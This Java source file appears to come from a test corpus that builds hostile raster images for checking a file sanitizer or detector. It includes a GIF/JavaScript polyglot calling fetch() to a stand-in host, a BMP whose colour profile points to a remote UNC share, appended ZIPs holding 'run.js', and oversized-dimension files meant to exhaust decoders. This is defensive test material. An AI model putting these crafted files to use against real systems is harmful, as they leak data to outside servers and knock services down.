package jp.kiyome.testcorpus.image;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Supplier;
import java.util.stream.Stream;
import jp.kiyome.testcorpus.picture.Bmp;
import jp.kiyome.testcorpus.picture.Jp2;
import jp.kiyome.testcorpus.picture.Png;
import jp.kiyome.testcorpus.picture.Tiff;
import jp.kiyome.testcorpus.sample.Ending;
import jp.kiyome.testcorpus.sample.Sample;
import jp.kiyome.testcorpus.sample.Vector;
import jp.kiyome.testcorpus.zip.Bytes;
import jp.kiyome.testcorpus.zip.RawEntry;
import jp.kiyome.testcorpus.zip.RawZip;

/** What is hidden in raster pictures, and how they attack their readers. */
public final class ImageVectors {

    private static final String MARK = "https://collect.example.invalid/";
    /** SOI and an APP0 segment of sixteen bytes. */
    static final int BEHIND_JFIF = 20;

    private static final byte[] MARKED = Edits.ascii(MARK);

    private final List<Vector> all = new ArrayList<>();

    private ImageVectors() {
        jpeg();
        png();
        gif();
        bmpAndTiff();
        webp();
        icon();
        jpeg2000();
        refused();
    }

    /** With the findings that {@code findings.tsv} beside this class expects of each. */
    public static List<Vector> all() {
        Map<String, String[]> findings = findings();
        return new ImageVectors()
                .all.stream()
                        .map(v -> v.finds(findings.getOrDefault(v.hostile().name(), new String[0])))
                        .toList();
    }

    /** Codes by the name of the hostile sample. */
    public static Map<String, String[]> findings() {
        Map<String, String[]> findings = new TreeMap<>();
        try (InputStream in = ImageVectors.class.getResourceAsStream("findings.tsv")) {
            if (in == null) {
                throw new IllegalStateException("findings.tsv is missing");
            }
            new String(in.readAllBytes(), StandardCharsets.UTF_8)
                    .lines()
                    .filter(line -> !line.startsWith("#"))
                    .map(line -> line.split("\t", 2))
                    .forEach(f -> findings.put(f[0], f[1].split(" ", -1)));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return findings;
    }

    /** Files with nothing to find. */
    public static List<Sample> benign() {
        return Stream.of(
                        Sample.of("benign-jpeg", "jpg", Clean::jpeg),
                        Sample.of("benign-png", "png", Clean::png),
                        Sample.of("benign-gif", "gif", Clean::gif),
                        Sample.of("benign-bmp", "bmp", Clean::bmp),
                        Sample.of("benign-webp-lossy", "webp", Clean::webp),
                        Sample.of("benign-webp-lossless", "webp", Clean::losslessWebp),
                        Sample.of("benign-webp-alpha", "webp", Clean::alphaWebp),
                        Sample.of("benign-icon", "ico", Clean::icon),
                        Sample.of("benign-jp2", "jp2", Jp2::file),
                        Sample.of("benign-j2k", "j2k", Jp2::codestream))
                .toList();
    }

    private void add(String name, String extension, Supplier<byte[]> hostile, Supplier<byte[]> clean) {
        all.add(Vector.of(name, extension, hostile, clean).loses(MARK));
    }

    private void jpeg() {
        Supplier<byte[]> clean = Clean::jpeg;
        add("jpeg-comment", "jpg", () -> Edits.segment(0xFE, MARKED), clean);
        add("jpeg-exif", "jpg", () -> Edits.segment(0xE1, "Exif\0\0MM\0*\0\0\0\b\0\0\0\0\0\0", MARKED), clean);
        add("jpeg-xmp", "jpg", () -> Edits.segment(0xE1, "http://ns.adobe.com/xap/1.0/\0", MARKED), clean);
        add("jpeg-photoshop", "jpg", () -> Edits.segment(0xED, "Photoshop 3.0\0", MARKED), clean);
        add("jpeg-provenance", "jpg", () -> Edits.segment(0xEB, "JP\0\1", MARKED), clean);
        add("jpeg-multi-picture", "jpg", () -> Edits.segment(0xE2, "MPF\0", MARKED), clean);
        add("jpeg-profile", "jpg", () -> Edits.segment(0xE2, "ICC_PROFILE\0\1\1", MARKED), clean);
        add("jpeg-own-application", "jpg", () -> Edits.segment(0xE9, "XYZ\0", MARKED), clean);
        add("jpeg-unknown-segment", "jpg", () -> Edits.segment(0xF3, MARKED), clean);
        add("jpeg-between-segments", "jpg", () -> Edits.insert(Clean.jpeg(), BEHIND_JFIF, MARKED), clean);
        add("jpeg-zip-behind", "jpg", () -> Edits.append(Clean.jpeg(), zip()), clean);
        add("jpeg-picture-behind", "jpg", () -> Edits.append(Clean.jpeg(), Edits.segment(0xFE, MARKED)), clean);
        add(
                "jpeg-pdf",
                "jpg",
                () -> Edits.append(
                        Edits.segment(0xFE, Edits.ascii("\n%PDF-1.4\n1 0 obj<</URI(" + MARK + ")>>endobj\n")),
                        Edits.ascii("\ntrailer<</Root 1 0 R>>\n%%EOF")),
                clean);
    }

    private void png() {
        Supplier<byte[]> clean = Clean::png;
        add("png-text", "png", () -> Edits.png("tEXt", Edits.ascii("Comment\0" + MARK)), clean);
        add("png-exif", "png", () -> Edits.png("eXIf", MARKED), clean);
        add("png-provenance", "png", () -> Edits.png("caBX", MARKED), clean);
        add("png-unknown-chunk", "png", () -> Edits.png("prVt", MARKED), clean);
        add("png-palette-suggestion", "png", () -> Edits.png("sPLT", MARKED), clean);
        add("png-profile", "png", () -> Edits.png("iCCP", Edits.ascii("n\0\0" + MARK)), clean);
        add("png-wrong-length", "png", () -> Edits.png("gAMA", MARKED), clean);
        add("png-zip-behind", "png", () -> Edits.append(Clean.png(), zip()), clean);
        add(
                "png-behind-the-stream",
                "png",
                () -> new Png().slackInStream(MARKED).bytes(),
                clean);
    }

    private void gif() {
        Supplier<byte[]> clean = Clean::gif;
        add("gif-comment", "gif", () -> Edits.gif(0xFE, MARKED), clean);
        add("gif-application", "gif", () -> Edits.gif(0xFF, Edits.ascii("XMP DataXMP"), MARKED), clean);
        add("gif-plain-text", "gif", () -> Edits.gif(0x01, new byte[12], MARKED), clean);
        add("gif-loops-and-more", "gif", () -> Edits.gif(0xFF, Edits.ascii("NETSCAPE2.0"), MARKED), clean);
        add("gif-behind", "gif", () -> Edits.append(Clean.gif(), zip()), clean);
        // a browser that is told to run the file reads GIF89a=1/*...*/;fetch(...)
        add(
                "gif-script",
                "gif",
                () -> Edits.append(
                        Edits.gif(0xFE, Edits.ascii("*/=1;fetch('" + MARK + "')//")),
                        Edits.ascii("*/;fetch('" + MARK + "')")),
                clean);
    }

    private void bmpAndTiff() {
        add("bmp-gaps", "bmp", () -> Bmp.with(MARKED), Clean::bmp);
        add("bmp-linked-profile", "bmp", ImageVectors::linkedProfile, Clean::bmp);
        all.add(new Vector(
                Sample.of("tiff-tags-and-gaps", "tif", () -> Tiff.with(MARKED)).loses(MARK),
                Sample.of("tiff-tags-and-gaps-twin", "bmp", Clean::bmp)));
    }

    private void webp() {
        Supplier<byte[]> clean = Clean::alphaWebp;
        add("webp-exif", "webp", () -> Edits.webp(Clean.alphaWebp(), "EXIF", MARKED), clean);
        add("webp-xmp", "webp", () -> Edits.webp(Clean.alphaWebp(), "XMP ", MARKED), clean);
        add("webp-profile", "webp", () -> Edits.webp(Clean.alphaWebp(), "ICCP", MARKED), clean);
        add("webp-unknown-chunk", "webp", () -> Edits.webp(Clean.alphaWebp(), "pRvt", MARKED), clean);
        add("webp-second-image", "webp", () -> Edits.webp(Clean.alphaWebp(), "VP8 ", MARKED), clean);
        add("webp-plain-with-exif", "webp", () -> Edits.webp(Clean.webp(), "EXIF", MARKED), Clean::webp);
        add("webp-behind", "webp", () -> Edits.append(Clean.webp(), zip()), Clean::webp);
        add(
                "webp-behind-the-bits",
                "webp",
                () -> {
                    byte[] whole = Edits.append(Clean.losslessWebp(), MARKED);
                    byte[] sized = Edits.put32(whole, 16, ByteOrder.LITTLE_ENDIAN, whole.length - 20);
                    return Edits.put32(sized, 4, ByteOrder.LITTLE_ENDIAN, whole.length - 8);
                },
                Clean::losslessWebp);
    }

    private void icon() {
        Supplier<byte[]> clean = Clean::icon;
        add("icon-behind", "ico", () -> Edits.append(Clean.icon(), zip()), clean);
        add(
                "icon-gap",
                "ico",
                () -> {
                    byte[] gap = Edits.insert(Clean.icon(), 38, MARKED);
                    byte[] first = Edits.put32(gap, 18, ByteOrder.LITTLE_ENDIAN, 38 + MARKED.length);
                    int second = java.nio.ByteBuffer.wrap(gap)
                            .order(ByteOrder.LITTLE_ENDIAN)
                            .getInt(34);
                    return Edits.put32(first, 34, ByteOrder.LITTLE_ENDIAN, second + MARKED.length);
                },
                clean);
        all.add(Vector.of(
                "icon-claims-another-size",
                "ico",
                () -> {
                    byte[] icon = Clean.icon();
                    icon[6] = 99;
                    return icon;
                },
                clean));
    }

    private void jpeg2000() {
        byte[] none = new byte[0];
        Supplier<byte[]> clean = Jp2::file;
        add("jp2-xml", "jp2", () -> Jp2.file(none, Jp2.codestream(), Jp2.box("xml ", MARKED)), clean);
        add("jp2-uuid", "jp2", () -> Jp2.file(Jp2.box("uuid", uuid()), Jp2.codestream(), none), clean);
        add("jp2-address", "jp2", () -> Jp2.file(none, Jp2.codestream(), Jp2.box("uinf", address())), clean);
        add("jp2-rights", "jp2", () -> Jp2.file(Jp2.box("jp2i", MARKED), Jp2.codestream(), none), clean);
        add("jp2-unknown-box", "jp2", () -> Jp2.file(Jp2.box("pRvt", MARKED), Jp2.codestream(), none), clean);
        add("jp2-second-picture", "jp2", () -> Jp2.file(none, Jp2.codestream(), Jp2.box("jp2c", MARKED)), clean);
        add("jp2-comment", "jp2", () -> Jp2.file(none, Jp2.codestreamWith(0x64, MARKED), none), clean);
        add("jp2-behind-the-tiles", "jp2", () -> Jp2.file(none, Edits.append(Jp2.codestream(), MARKED), none), clean);
        add("j2k-comment", "j2k", () -> Jp2.codestreamWith(0x64, MARKED), Jp2::codestream);
        add("j2k-zip-behind", "j2k", () -> Edits.append(Jp2.codestream(), zip()), Jp2::codestream);
    }

    /** An identifier of sixteen bytes before whatever an application likes (15444-1 I.7.2). */
    private static byte[] uuid() {
        return Edits.append(new byte[16], MARKED);
    }

    /** A list of identifiers and where to read about them (15444-1 I.7.3). */
    private static byte[] address() {
        return Edits.append(Jp2.box("ulst", new byte[] {0, 0}), Jp2.box("url ", Edits.append(new byte[4], MARKED)));
    }

    /** Sizes that would take a machine down, and structures that lead nowhere. */
    private void refused() {
        refused("png-huge", "png", ImageVectors::hugePng, Clean::png);
        refused("png-unknown-critical", "png", () -> Edits.png("CgBI", MARKED), Clean::png);
        refused("bmp-huge", "bmp", () -> Edits.put32(Clean.bmp(), 18, ByteOrder.LITTLE_ENDIAN, 0x7FFFFFFF), Clean::bmp);
        refused(
                "bmp-pixels-in-header",
                "bmp",
                () -> Edits.put32(Clean.bmp(), 10, ByteOrder.LITTLE_ENDIAN, 20),
                Clean::bmp);
        refused(
                "j2k-huge",
                "j2k",
                () -> Edits.put32(Jp2.codestream(), 8, ByteOrder.BIG_ENDIAN, 0x7FFFFFFF),
                Jp2::codestream);
        refused("j2k-tiles-of-one-pixel", "j2k", ImageVectors::manyTiles, Jp2::codestream);
        refused("j2k-of-part-two", "j2k", () -> Jp2.codestreamWith(0x72, MARKED), Jp2::codestream);
        refused("j2k-layers", "j2k", ImageVectors::manyLayers, Jp2::codestream);
        refused(
                "icon-past-the-end",
                "ico",
                () -> Edits.put32(Clean.icon(), 18, ByteOrder.LITTLE_ENDIAN, 1 << 30),
                Clean::icon);
        refused(
                "webp-chunk-past-the-end",
                "webp",
                () -> Edits.put32(Clean.webp(), 16, ByteOrder.LITTLE_ENDIAN, 1 << 30),
                Clean::webp);
        refused("jpeg-second-start", "jpg", () -> Edits.insert(Clean.jpeg(), 2, new byte[] {-1, -40}), Clean::jpeg);
    }

    private void refused(String name, String extension, Supplier<byte[]> hostile, Supplier<byte[]> clean) {
        all.add(Vector.of(name, extension, hostile, clean).ends(Ending.REFUSED));
    }

    /** Four thousand pixels a side, in tiles of one (15444-1 A.5.1). */
    private static byte[] manyTiles() {
        byte[] stream = Jp2.codestream();
        stream[10] = 16;
        stream[14] = 16;
        stream[27] = 1;
        stream[31] = 1;
        return stream;
    }

    /** More packets than a decoder can hold (15444-1 A.6.1). */
    private static byte[] manyLayers() {
        byte[] stream = Jp2.codestream();
        stream[10] = 16;
        stream[14] = 16;
        stream[26] = 16;
        stream[30] = 16;
        stream[57] = (byte) 0xFF;
        stream[58] = (byte) 0xFF;
        stream[60] = 32;
        return stream;
    }

    private static byte[] hugePng() {
        byte[] header = new Bytes()
                .bigEndian32(0x7FFFFFFF)
                .bigEndian32(0x7FFFFFFF)
                .octets(8, 2, 0, 0, 0)
                .toArray();
        byte[] plain = Clean.png();
        byte[] rest = java.util.Arrays.copyOfRange(plain, 33, plain.length);
        return new Bytes()
                .raw(java.util.Arrays.copyOf(plain, 8))
                .raw(Edits.chunk("IHDR", header))
                .raw(rest)
                .toArray();
    }

    /** BITMAPV5HEADER whose profile is the name of a file on a server. */
    private static byte[] linkedProfile() {
        byte[] path = Edits.ascii("\\\\collect.example.invalid\\share\\" + MARK);
        Bytes out = new Bytes()
                .ascii("BM")
                .u32(14 + 124 + 16 + path.length)
                .u32(0)
                .u32(14 + 124)
                .u32(124)
                .u32(2)
                .u32(2)
                .u16(1)
                .u16(24)
                .u32(0)
                .u32(16)
                .u32(0)
                .u32(0)
                .u32(0)
                .u32(0)
                .raw(new byte[16])
                .ascii("KNIL")
                .raw(new byte[48])
                .u32(4)
                .u32(124 + 16)
                .u32(path.length)
                .u32(0);
        return out.raw(new byte[16]).raw(path).toArray();
    }

    private static byte[] zip() {
        return new RawZip().add(RawEntry.of("run.js", MARKED)).bytes();
    }

    /** A picture for files of other formats. */
    public static byte[] plainPng() {
        return Clean.png();
    }
}
